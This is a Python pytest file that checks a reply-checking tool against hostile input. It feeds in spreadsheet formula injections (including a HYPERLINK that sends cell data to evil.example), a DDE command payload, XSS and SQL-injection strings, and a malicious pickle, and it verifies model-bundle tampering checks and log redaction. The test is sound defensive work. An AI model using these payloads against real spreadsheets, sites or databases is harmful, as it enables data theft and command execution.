"""What a hostile patron, file, caller or model can do: nothing but be judged. docs/security.md says what holds and what does not."""

from __future__ import annotations

import hashlib
import io
import json
import logging
import re
import warnings
import zipfile
from collections.abc import Callable
from contextlib import suppress
from dataclasses import asdict, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chats import library
from replycheck import labels, tables
from replycheck.auditing import Options
from replycheck.bundle import FILES, MANIFEST, OUT_OF_FOLD, SEAL, Manifest, inspect_bundle, load_bundle
from replycheck.checker import Checker
from replycheck.conversation import Message, Role
from replycheck.encoder import OutOfFold
from replycheck.errors import BundleError, ReplycheckError
from replycheck.feedback import Store
from replycheck.settings import Settings, shipped
from replycheck.sheets import write_sheet
from replycheck_api import create_app
from replycheck_api.access import new_key
from replycheck_api.logs import JsonLines
from test_auditing import Start, start  # noqa: F401 - a fixture

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # the client would rather have a newer httpx than there is
    from starlette.testclient import TestClient

SHIPPED = shipped("models") / "default"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"look")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
SQL = "x'); DROP TABLE correction; --"
HOSTILE = [
    LINK,
    SCRIPT,
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "]]><!--",
    '"><svg onload=alert(3)>',
    SQL,
]


class Elements(HTMLParser):
    """The elements of a page and their attributes, as a browser would see them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [f"{tag} {n}" for n, v in attrs if n.startswith("on") or "javascript:" in (v or "")]


def formulas(book: Path) -> list[str]:
    """Parts of a workbook's sheets that a spreadsheet would work out or open."""
    found = []
    with zipfile.ZipFile(book) as archive:
        for name in archive.namelist():
            xml = archive.read(name).decode("utf-8", "replace")
            if "worksheets" in name:
                found += re.findall(r"<f[ >/][^<]*|<hyperlink[^>]*>", xml)
            found += re.findall(r'TargetMode="External"|externalLink', xml)
    return [f for f in found if "dataValidation" not in f]


# --- injection ---------------------------------------------------------------------------------------------------


def test_a_patron_who_writes_formulas_and_scripts_into_everything_is_only_text(start: Start, tmp_path: Path) -> None:  # noqa: F811
    from replycheck.estimate import draw_sample
    from replycheck.judging import read_findings, read_moments
    from replycheck.judging import write_sheet as write_sample

    pushes = "Please fill in our form, we offer many workshops! "
    items = [
        replace(
            c,
            messages=(
                Message(Role.PATRON, HOSTILE[i % len(HOSTILE)] + " the catalogue hides the e-books", HOSTILE[i % 3]),
                Message(Role.STAFF, pushes + HOSTILE[i % len(HOSTILE)], HOSTILE[i % 5]),
            ),
            department=HOSTILE[i % 4],
            channel=HOSTILE[i % 2],
            tags=(HOSTILE[i % 3],),
        )
        for i, c in enumerate(library(60))
    ]
    start(items, options=Options(with_text=True, min_group=3), report=True)
    out = tmp_path / "out"
    page = Elements((out / "report.html").read_text())
    assert "script" not in page.tags
    assert "img" not in page.tags
    assert page.handlers == []
    assert "&lt;script&gt;" in (out / "report.html").read_text()
    assert formulas(out / "findings.xlsx") == []
    for row in tables.read_rows(out / "findings.csv").rows:
        assert not [c for c in row if str(c).startswith(("=", "+", "@", "\t", "\r"))]
    found = read_findings(out)
    rows = draw_sample(found.probability, 20, 1).rows.tolist()
    write_sample(out / "sample.xlsx", found, rows, read_moments(out, [found.key[r] for r in rows]), 1)
    assert formulas(out / "sample.xlsx") == []


def test_sheets_to_label_in_hold_texts_only(tmp_path: Path) -> None:
    path = tmp_path / "next.xlsx"
    write_sheet(path, ["reply", "patron_message", "label"], [[text, text, ""] for text in HOSTILE])
    assert formulas(path) == []


def test_sql_in_every_field_of_a_correction_is_kept_as_words(tmp_path: Path, checker: Checker) -> None:
    path = tmp_path / "feedback.sqlite"
    body = {"id": "00000000-0000-0000-0000-000000000001", "consent": True, "reply": SQL, "patron_message": SQL}
    body |= {"label": "listening", "model_label": "listening", "model_version": SQL}
    with TestClient(create_app(Settings(feedback=path), checker)) as client:
        assert client.post("/v1/feedback", json=body).status_code == 200
        assert client.post("/v1/feedback", json=body | {"id": SQL}).status_code == 422
        assert client.delete("/v1/feedback/x' OR '1'='1").json() == {"forgotten": 0}
    (kept,) = Store(path)
    assert (kept.correction.reply, kept.correction.model_version) == (SQL, SQL)


# --- models that execute nothing ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle of a few bytes, whose seal holds: what it holds is looked at only afterwards."""
    folder = tmp_path_factory.mktemp("bundle") / "small"
    folder.mkdir()
    contents = {name: f"the {name} of a model".encode() for name in FILES}
    said, _ = inspect_bundle(SHIPPED)
    files = {n: {"sha256": hashlib.sha256(c).hexdigest(), "bytes": len(c)} for n, c in contents.items()}
    raw = json.dumps(asdict(Manifest(**{**asdict(said), "files": files}))).encode()
    for name, content in {**contents, MANIFEST: raw, SEAL: hashlib.sha256(raw).hexdigest().encode() + b"\n"}.items():
        (folder / name).write_bytes(content)
    return folder


def test_every_single_byte_of_a_bundle_is_vouched_for(small: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each byte changed in two ways, left out, and doubled, in each file: refused before anything is built."""
    inspect_bundle(small)
    whole = {p.name: p.read_bytes() for p in small.iterdir()}
    changed: dict[str, bytes] = {}
    monkeypatch.setattr("replycheck.bundle._read", lambda path: {**whole, **changed}[path.name])
    monkeypatch.setattr("skops.io.loads", None)
    tried = 0
    for name, raw in whole.items():
        for at in range(len(raw)):
            for piece in (bytes([raw[at] ^ 1]), bytes([raw[at] ^ 0x80]), b"", raw[at : at + 1] * 2):
                changed.clear()
                changed[name] = raw[:at] + piece + raw[at + 1 :]
                with pytest.raises(BundleError):
                    load_bundle(small)
                tried += 1
    assert tried == 4 * sum(map(len, whole.values()))


@settings(max_examples=15, deadline=None)
@given(st.data())
def test_a_changed_byte_of_the_shipped_model_is_refused(data: st.DataObject) -> None:
    from replycheck import bundle

    name = data.draw(st.sampled_from(sorted(p.name for p in SHIPPED.iterdir())))
    raw = (SHIPPED / name).read_bytes()
    at, by = data.draw(st.integers(0, len(raw) - 1)), data.draw(st.integers(1, 255))
    read = bundle._read
    changed = raw[:at] + bytes([raw[at] ^ by]) + raw[at + 1 :]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(bundle, "_read", lambda path: changed if path.name == name else read(path))
        with pytest.raises(BundleError):
            load_bundle(SHIPPED)


def test_a_pickle_among_the_arrays_of_a_model_is_not_read(tmp_path: Path) -> None:
    class Bomb:
        def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
            return (Path.touch, (str(tmp_path / "boom"),))

    raw = io.BytesIO()
    np.savez(raw, **{n: np.array([Bomb()], dtype=object) for n in np.load(SHIPPED / OUT_OF_FOLD).files})
    with pytest.raises(ValueError, match="allow_pickle"):
        OutOfFold.load(raw.getvalue())
    assert not (tmp_path / "boom").exists()


# --- tables and labels of any bytes ------------------------------------------------------------------------------

TABLES = {
    ".csv": b'reply,label,moves\n"We have a guide.",listening,answers\nx,service-pushing,"[{""start"":0}]"\n',
    ".jsonl": b'{"reply": "We have a guide.", "label": "listening"}\n{"text": "a", "label": [[0, 1, "pitches"]]}\n',
    ".json": b'[{"data": {"reply": "a"}, "annotations": [{"result": [{"value": {"choices": ["listening"]}}]}]}]',
}
BITS = [
    b'"',
    b",",
    b"\n",
    b"\x00",
    b"\xff",
    b"{",
    b"]",
    b"null",
    b"1e999",
    b"\\ud800",
    b"9" * 30,
    b"label",
    b"reply",
    b"-1",
    b"[" * 3000,
]


@settings(max_examples=80, deadline=None)
@given(
    st.sampled_from(sorted(TABLES)),
    st.lists(st.tuples(st.integers(0, 200), st.integers(0, 30), st.sampled_from(BITS)), max_size=6),
)
def test_no_bytes_make_a_table_or_labels_fail_in_another_way_than_ours(
    tmp_path_factory: pytest.TempPathFactory, suffix: str, cuts: list[tuple[int, int, bytes]]
) -> None:
    raw = TABLES[suffix]
    for at, width, piece in cuts:
        raw = raw[:at] + piece + raw[at + width :]
    path = tmp_path_factory.getbasetemp() / f"any{suffix}"
    path.write_bytes(raw)
    for read in (
        lambda: labels.read_labels([path]),
        lambda: labels.read_labels([path], mark=True),
        lambda: tables.read_rows(path),
    ):
        with suppress(ReplycheckError):
            read()


# --- logs --------------------------------------------------------------------------------------------------------


def test_no_key_and_no_text_is_logged_at_any_level(
    checker: Checker, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    caplog.set_level(logging.DEBUG)
    key, line = new_key("desk")
    secret = "the turnip cellar is flooded"
    with TestClient(create_app(Settings(api_keys=(line,)), checker)) as client:
        for headers in ({"x-api-key": key}, {"authorization": f"Bearer {key}"}, {"x-api-key": key + "wrong"}, {}):
            client.post("/v1/check", json={"reply": secret}, headers=headers)
            client.post("/v2/check", data={"text": secret, "language": "en", "apiKey": key}, headers=headers)
            client.get(f"/v2/check?text={secret}&language=en&apiKey={key}", headers=headers)
        metrics = client.get("/metrics", headers={"x-api-key": key}).text
    out, err = capfd.readouterr()
    ours = [r for r in caplog.records if not r.name.startswith(("httpx", "httpcore"))]
    logged = "\n".join(JsonLines().format(r) for r in ours) + out + err + metrics
    assert "/v1/check" in logged
    for word in (key, line.partition(":")[2], secret, "turnip"):
        assert word not in logged
